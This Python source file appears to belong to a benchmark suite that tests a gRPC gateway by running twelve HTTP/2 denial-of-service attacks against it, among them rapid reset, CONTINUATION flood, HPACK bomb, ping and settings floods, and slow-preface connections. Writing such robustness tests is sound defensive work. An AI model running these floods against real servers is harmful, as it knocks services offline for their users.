"""Twelve attacks on the HTTP/2 connection itself, by a client that has a valid token.

Each is made over a few connections, which are opened again where the gateway ends them.
"""

import struct
from collections.abc import Awaitable, Callable, Mapping
from functools import partial

from benchmarks.hostile.http2_frames import (
    CONTINUATION,
    DATA,
    END_HEADERS,
    END_STREAM,
    GOAWAY,
    HEADERS,
    INITIAL_WINDOW_SIZE,
    LONGEST,
    PING,
    PREFACE,
    PRIORITY,
    WINDOW_UPDATE,
    Connection,
    frame,
    index,
    literal,
    request,
    reset,
    settings,
)
from benchmarks.hostile.repeating import repeat
from benchmarks.hostile.target import Target

CONNECTIONS = 4
#: Frames that are written at once.
BURST = 200
LIST = b"/callgate.v1.CatalogService/ListTools"
#: An empty message of gRPC.
EMPTY = b"\x00" * 5
LAST = 0x7FFFFFFF

#: One attack over a connection, until that ends or enough was sent.
Round = Callable[[Connection, str], Awaitable[None]]


def _open(stream: int, token: str) -> bytes:
    return frame(HEADERS, END_HEADERS, stream, request(LIST, token))


async def _rapid_reset(connection: Connection, token: str) -> None:
    for burst in range(50):
        streams = range(1 + 2 * BURST * burst, 1 + 2 * BURST * (burst + 1), 2)
        await connection.send(b"".join(_open(stream, token) + reset(stream) for stream in streams))


async def _continuation_flood(connection: Connection, token: str) -> None:
    """A header block that never ends."""
    await connection.send(frame(HEADERS, 0, 1, request(LIST, token)))
    piece = b"".join(literal(b"x-a", b"b" * 100) for _ in range(150))[:LONGEST]
    for _ in range(200):
        await connection.send(frame(CONTINUATION, 0, 1, piece))


async def _settings_flood(connection: Connection, token: str) -> None:
    for _ in range(200):
        await connection.send(settings((3, 100), (INITIAL_WINDOW_SIZE, 65_535)) * BURST)


async def _ping_flood(connection: Connection, token: str) -> None:
    for _ in range(200):
        await connection.send(frame(PING, 0, 0, b"callgate") * BURST)


async def _window_held(connection: Connection, token: str) -> None:
    """Answers are asked for and never taken."""
    await connection.send(settings((INITIAL_WINDOW_SIZE, 0)))
    for stream in range(1, 401, 2):
        await connection.send(_open(stream, token) + frame(DATA, END_STREAM, stream, EMPTY))
    await connection.wait(2.0)


async def _large_headers(connection: Connection, token: str) -> None:
    for stream in range(1, 41, 2):
        block = request(LIST, token, [(b"x-%d" % number, b"v" * 4_000) for number in range(60)])
        pieces = [block[start : start + LONGEST] for start in range(0, len(block), LONGEST)]
        kinds = [HEADERS, *[CONTINUATION] * (len(pieces) - 1)]
        flags = [*[0] * (len(pieces) - 1), END_HEADERS]
        await connection.send(b"".join(frame(k, f, stream, p) for k, f, p in zip(kinds, flags, pieces, strict=True)))


async def _empty_frames(connection: Connection, token: str) -> None:
    """Frames that say nothing: DATA without bytes, and priorities of streams that are not there."""
    await connection.send(_open(1, token))
    for number in range(200):
        await connection.send(frame(DATA, 0, 1) * BURST)
        await connection.send(frame(PRIORITY, 0, 3 + 2 * number, struct.pack(">IB", 1, 16)) * BURST)


async def _slow_preface(connection: Connection, token: str) -> None:
    await connection.wait(1.0)


async def _stream_ids_used_up(connection: Connection, token: str) -> None:
    """The last stream that a connection can have is its second one."""
    await connection.send(_open(1, token) + frame(DATA, END_STREAM, 1, EMPTY))
    await connection.send(_open(LAST, token) + frame(DATA, END_STREAM, LAST, EMPTY))
    await connection.send(b"".join(_open(stream, token) for stream in range(3, 203, 2)))
    await connection.wait(0.2)


async def _hpack_bomb(connection: Connection, token: str) -> None:
    """A field of 4 kB in the table, named again by one byte each."""
    filled = request(LIST, token) + literal(b"x", b"y" * 3_900, indexed=True)
    for stream in range(1, 101, 2):
        block = (filled if stream == 1 else request(LIST, token)) + index(62) * 12_000
        await connection.send(frame(HEADERS, END_HEADERS, stream, block[:LONGEST]))


async def _goaway_storm(connection: Connection, token: str) -> None:
    await connection.send(_open(1, token) + frame(GOAWAY, 0, 0, struct.pack(">II", 1, 0) + b"x" * 1_000) * 50)
    await connection.send(frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 1)) * BURST)


async def _half_open(connection: Connection, token: str) -> None:
    """Streams whose messages never end; then the writing side is closed."""
    message = b"\x00" + struct.pack(">I", 4_000_000) + b"x" * 1_000
    for stream in range(1, 401, 2):
        await connection.send(_open(stream, token) + frame(DATA, 0, stream, message))
    connection.writer.write_eof()
    await connection.wait(1.0)


_ROUNDS: Mapping[str, Round] = {
    "rapid_reset": _rapid_reset,
    "continuation_flood": _continuation_flood,
    "settings_flood": _settings_flood,
    "ping_flood": _ping_flood,
    "window_held": _window_held,
    "large_headers": _large_headers,
    "empty_frames": _empty_frames,
    "slow_preface": _slow_preface,
    "stream_ids_used_up": _stream_ids_used_up,
    "hpack_bomb": _hpack_bomb,
    "goaway_storm": _goaway_storm,
    "half_open": _half_open,
}
NAMES = tuple(_ROUNDS)
#: How many connections each is made over, where that is not `CONNECTIONS`.
_WIDE = {"slow_preface": 200}


async def attack(name: str, target: Target, seconds: float) -> int:
    return await repeat(seconds, _WIDE.get(name, CONNECTIONS), partial(_round, name, target))


async def _round(name: str, target: Target, _: int) -> None:
    first = PREFACE[:10] if name == "slow_preface" else PREFACE + settings()
    connection = await Connection.open(target.gateway, first)
    try:
        await _ROUNDS[name](connection, target.token)
    finally:
        connection.close()
